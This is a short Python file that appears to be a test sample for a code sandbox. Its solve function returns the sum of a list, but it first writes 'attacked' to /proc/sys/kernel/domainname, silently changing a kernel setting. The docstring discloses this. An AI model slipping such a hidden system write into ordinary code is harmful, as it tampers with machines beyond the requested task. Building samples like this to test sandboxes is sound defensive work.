"""Changes a setting of the kernel."""

import io


def solve(numbers):
    with io.open("/proc/sys/kernel/domainname", "w") as file:
        file.write("attacked")
    return sum(numbers)
